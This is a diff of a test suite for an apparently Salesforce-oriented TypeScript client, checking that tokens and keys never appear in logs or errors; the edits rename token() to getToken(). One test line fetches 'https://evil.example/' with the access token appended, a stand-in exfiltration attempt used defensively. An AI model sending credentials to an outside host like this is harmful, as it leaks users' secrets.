@@ -114,17 +114,17 @@ describe("no secret is printed of", () => {
       import { createSession, sfQuery, getToken } from "./mod.ts";
       const session = createSession({ passphrase: "pass-phrase" });
       await print("before", session);
-      const token = await session.token();
+      const token = await session.getToken();
       await print("session", session);
       const settings = await session.settings();
       console.log(settings, JSON.stringify(settings), { ...settings }, [settings]);
-      await print("promise", session.token());
+      await print("promise", session.getToken());
       await print("token", token);
       console.log({ deep: { token } }, [token], new Map([["t", token]]), \`\${token}\`, token + "");
       console.log("%s %o %O %d", token, token, token, token);
       const query = session.query("SELECT Id FROM Account");
       await print("query", query);
-      await print("records", await query.all());
+      await print("records", await query);
       await print("response", await session.fetch("/limits"));
       await print("promised", session.fetch("/limits"));
       await print("pages", query.pages());
@@ -175,7 +175,7 @@ describe("no secret is printed of", () => {
     printsNoSecret(
       `
       import { createSession } from "./mod.ts";
-      const { accessToken } = await createSession().token();
+      const { accessToken } = await createSession().getToken();
       const lost = createSession({ accessToken, instanceUrl: "http://127.0.0.1:1" });
       await lost.fetch("/x", { retry: 0 }).catch((error) => print("refused", error));
       const odd = createSession({ accessToken: accessToken + "\\u2026", instanceUrl: "http://127.0.0.1:1" });
@@ -184,7 +184,7 @@ describe("no secret is printed of", () => {
       await session.fetch("https://evil.example/" + accessToken).catch((error) => print("foreign", error));
       await session.fetch("/limits", { timeout: 0, retry: 0 }).catch((error) => print("timeout", error));
       await session.fetch("/" + accessToken, { headers: { "x": "\\u0000" } }).catch((error) => print("header", error));
-      await createSession({ loginUrl: "http://127.0.0.1:1" }).token().catch((error) => print("no sign-in", error));
+      await createSession({ loginUrl: "http://127.0.0.1:1" }).getToken().catch((error) => print("no sign-in", error));
       `,
       /ConnectionError/,
     ));
@@ -196,12 +196,12 @@ describe("no secret is printed of", () => {
       `
       import { createSession, importPrivateKey } from "./mod.ts";
       const key = ${JSON.stringify(key)};
-      await createSession().token();
+      await createSession().getToken();
       for (const damaged of [key.slice(0, 500), key.replace("\\nM", "\\n\\u2026"), key.replace(/-----/g, "---"),
         key.replace(/PRIVATE/g, "PUBLIC"), key.replace(/PRIVATE/g, "ENCRYPTED PRIVATE"), key.replace("MII", "MIH"),
         key.split("\\n")[1], { kty: "RSA", n: key.slice(100, 200), d: key.slice(100, 200) }]) {
         await importPrivateKey(damaged, "pass-phrase").then(() => {}, (error) => print("key", error));
-        await createSession({ privateKey: damaged, passphrase: "pass-phrase" }).token()
+        await createSession({ privateKey: damaged, passphrase: "pass-phrase" }).getToken()
           .then(() => {}, (error) => print("session", error));
       }
       await print("imported", (await importPrivateKey(key)).format);
